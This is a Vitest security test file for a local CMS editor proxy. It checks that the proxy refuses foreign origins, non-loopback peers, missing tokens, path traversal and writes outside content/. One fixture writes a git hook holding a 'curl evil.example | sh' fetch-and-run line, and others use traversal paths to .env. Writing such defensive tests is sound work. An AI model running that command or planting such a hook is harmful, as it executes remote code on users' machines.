// `npm run cms`'s local proxy (docs/security.md, review item 2): it answers this computer only, with the run's
// secret of the editor page it served, and only under content/; `npm run cms` refuses a HOST that is not loopback.
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { isLoopbackHost, localEditorProxy, type LocalEditorProxy } from '../../../scripts/lib/cms-proxy.ts';
import { LOCAL_PROXY_PATH, LOCAL_TOKEN_HEADER } from '../../../src/lib/cms-config.ts';

describe("npm run cms's local proxy (docs/security.md, review item 2)", () => {
  let server: Server;
  let base: string;
  let proxy: LocalEditorProxy;
  /** The peer the proxy sees; a test stands in another computer of the network here. */
  let peer = '127.0.0.1';
  const dir = mkdtempSync(path.join(tmpdir(), 'cms-proxy-'));
  const secrets = { '.env': 'DATABASE_URL=postgres://secret\n', 'package.json': '{"scripts":{}}\n' };

  beforeAll(async () => {
    cpSync(path.resolve(import.meta.dirname, '../../../content/testimonials'), path.join(dir, 'content/testimonials'), {
      recursive: true,
    });
    for (const [file, text] of Object.entries(secrets)) writeFileSync(path.join(dir, file), text);
    mkdirSync(path.join(dir, '.git/hooks'), { recursive: true });
    proxy = await localEditorProxy(dir, '127.0.0.1:0', { peerOf: () => peer });
    server = createServer((req, res) => proxy.handle(req, res));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
  beforeEach(() => {
    peer = '127.0.0.1';
  });

  /** A request as the editor page sends it: its own Origin and the run's secret, unless a test says otherwise. */
  const post = (body: unknown, options: { origin?: string | null; token?: string | null } = {}) => {
    const { origin = base, token = proxy.token } = options; // null: the header is left out
    return fetch(`${base}${LOCAL_PROXY_PATH}`, {
      method: 'POST',
      headers: {
        'Content-Type': 'application/json',
        ...(origin ? { Origin: origin } : {}),
        ...(token ? { [LOCAL_TOKEN_HEADER]: token } : {}),
      },
      body: JSON.stringify(body),
    });
  };
  const refusal = async (response: Response) => ({ status: response.status, ...((await response.json()) as object) });
  const persist = (file: string, raw = 'quote: Hello\n') => ({
    action: 'persistEntry',
    params: {
      branch: 'main',
      dataFiles: [{ slug: 'new-quote', path: file, raw }],
      assets: [],
      options: { commitMessage: 'Create', useWorkflow: false, status: 'draft' },
    },
  });
  const write = persist('content/testimonials/new-quote.yaml');
  const newQuote = path.join(dir, 'content/testimonials/new-quote.yaml');

  it('refuses a page of another origin, or a request with none, and writes nothing', async () => {
    for (const origin of ['http://evil.example', null]) {
      expect(await refusal(await post(write, { origin }))).toMatchObject({ status: 403, reason: 'wrong_origin' });
    }
    expect(existsSync(newQuote)).toBe(false);
  });

  it('refuses another computer of the network, even with the Origin and the secret right', async () => {
    for (const address of ['192.168.1.20', '::ffff:10.0.0.7', 'fe80::1', '0.0.0.0', undefined]) {
      peer = address as string;
      expect(await refusal(await post(write))).toMatchObject({ status: 403, reason: 'not_loopback' });
    }
    expect(existsSync(newQuote)).toBe(false);
  });

  it("refuses a request without the run's secret, or with another, as curl or another program would send it", async () => {
    expect(await refusal(await post(write, { token: null }))).toMatchObject({ status: 401, reason: 'no_token' });
    const other = randomBytes(32).toString('base64url');
    expect(await refusal(await post(write, { token: other }))).toMatchObject({ status: 403, reason: 'wrong_token' });
    expect(await refusal(await post(write, { token: proxy.token.slice(1) }))).toMatchObject({ reason: 'wrong_token' });
    expect(existsSync(newQuote)).toBe(false);
  });

  it('refuses to read .env or write package.json, a git hook or any file outside content/, naming why', async () => {
    const read = (file: string) => ({ action: 'getEntry', params: { branch: 'main', path: file } });
    const cases: [unknown, string][] = [
      [read('.env'), 'outside_content'],
      [read('content/../.env'), 'path_traversal'],
      [read(path.join(dir, '.env')), 'absolute_path'],
      [persist('../package.json'), 'path_traversal'],
      [persist('package.json'), 'outside_content'],
      [persist('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil.example | sh\n'), 'outside_content'],
      [persist('content/../.git/hooks/pre-commit'), 'path_traversal'],
      [persist('content\\..\\package.json'), 'bad_path'],
      [
        {
          ...persist('content/testimonials/ok.yaml'),
          params: {
            ...persist('x').params,
            dataFiles: [{ slug: 'x', path: 'content/testimonials/ok.yaml', newPath: 'src/pages/x.astro', raw: 'x' }],
          },
        },
        'outside_content',
      ],
      [
        {
          action: 'persistMedia',
          params: {
            branch: 'main',
            asset: { path: 'public/x.js', content: 'YQ==', encoding: 'base64' },
            options: { commitMessage: 'x' },
          },
        },
        'outside_content',
      ],
      [
        {
          action: 'deleteFiles',
          params: {
            branch: 'main',
            paths: ['content/testimonials/a.yaml', 'README.md'],
            options: { commitMessage: 'x' },
          },
        },
        'outside_content',
      ],
      [
        { action: 'entriesByFolder', params: { branch: 'main', folder: '.', extension: 'env', depth: 1 } },
        'outside_content',
      ],
      [{ action: 'getMedia', params: { branch: 'main', mediaFolder: '.git' } }, 'outside_content'],
      [{ action: 'unpublishedEntries', params: { branch: 'main' } }, 'unknown_action'],
    ];
    for (const [body, reason] of cases) {
      const answer = await refusal(await post(body));
      expect(answer, JSON.stringify(body)).toMatchObject({ reason });
      expect(answer.status, JSON.stringify(body)).toBeGreaterThanOrEqual(400);
      expect(answer.status).toBeLessThan(500);
      expect(JSON.stringify(answer)).not.toContain('postgres://secret');
    }
    for (const [file, text] of Object.entries(secrets)) expect(readFileSync(path.join(dir, file), 'utf8')).toBe(text);
    expect(existsSync(path.join(dir, '.git/hooks/pre-commit'))).toBe(false);
    expect(existsSync(path.join(dir, 'src'))).toBe(false);
    expect(existsSync(path.join(dir, 'public'))).toBe(false);
  });

  it('refuses a path that leads out of content/ through a link', async () => {
    symlinkSync(dir, path.join(dir, 'content/testimonials/up'));
    expect(await refusal(await post(persist('content/testimonials/up/package.json')))).toMatchObject({
      status: 403,
      reason: 'outside_content',
    });
    expect(readFileSync(path.join(dir, 'package.json'), 'utf8')).toBe(secrets['package.json']);
  });

  it("lets the server's own page list and write content/ and its images", async () => {
    const info = await (await post({ action: 'info' })).json();
    expect(info).toMatchObject({ repo: path.basename(dir), type: 'local_fs' });
    const saved = await post(write);
    expect(saved.status, await saved.clone().text()).toBe(200);
    expect(readFileSync(newQuote, 'utf8')).toBe('quote: Hello\n');
    const image = {
      action: 'persistMedia',
      params: {
        branch: 'main',
        asset: { path: 'content/resources/images/pixel.webp', content: 'UklGRg==', encoding: 'base64' },
        options: { commitMessage: 'Upload' },
      },
    };
    const uploaded = await post(image);
    expect(uploaded.status, await uploaded.clone().text()).toBe(200);
    expect(existsSync(path.join(dir, 'content/resources/images/pixel.webp'))).toBe(true);
    const entry = await (
      await post({ action: 'getEntry', params: { branch: 'main', path: 'content/testimonials/new-quote.yaml' } })
    ).json();
    expect(entry).toMatchObject({ file: { path: 'content/testimonials/new-quote.yaml' }, data: 'quote: Hello\n' });
  });

  it('puts the secret into the editor page for this computer at a loopback name, and nowhere else', async () => {
    const page = () =>
      new Response('<div id="cms-settings" hidden data-repo=""></div>', {
        headers: { 'Content-Type': 'text/html; charset=utf-8', 'Content-Length': '48' },
      });
    const req = (host: string) => ({ headers: { host }, socket: {} }) as unknown as IncomingMessage;
    for (const host of ['localhost:4321', '127.0.0.1:4321', '[::1]:4321']) {
      const served = await proxy.editorPage(page(), req(host));
      expect(await served.text()).toContain(`data-local-token="${proxy.token}"`);
      expect(served.headers.get('cache-control')).toBe('no-store');
    }
    // A page that rebound its own name to 127.0.0.1 reads /cms under that name: no secret for it.
    expect(await (await proxy.editorPage(page(), req('attacker.example:4321'))).text()).not.toContain(proxy.token);
    peer = '192.168.1.20';
    expect(await (await proxy.editorPage(page(), req('localhost:4321'))).text()).not.toContain(proxy.token);
  });
});

describe('npm run cms listens on this computer only', () => {
  it('refuses HOST=0.0.0.0 (or a LAN address) with a clear message and a non-zero exit, before anything starts', async () => {
    for (const host of ['0.0.0.0', '192.168.1.20', '::']) {
      const run = spawnSync(process.execPath, ['scripts/serve.ts', '--cms'], {
        env: { ...process.env, HOST: host, PORT: '0' },
        encoding: 'utf8',
        timeout: 30_000,
      });
      expect(run.status, run.stderr).toBe(1);
      expect(run.stderr).toContain(`HOST must be 127.0.0.1, ::1 or localhost, not "${host}"`);
    }
  });

  it('counts 127.0.0.0/8, ::1 and localhost as loopback, and nothing else', () => {
    for (const host of ['127.0.0.1', '127.1.2.3', '::1', 'localhost', '::ffff:127.0.0.1'])
      expect(isLoopbackHost(host)).toBe(true);
    for (const host of ['0.0.0.0', '::', '192.168.1.20', 'example.com', '128.0.0.1', ''])
      expect(isLoopbackHost(host)).toBe(false);
  });
});
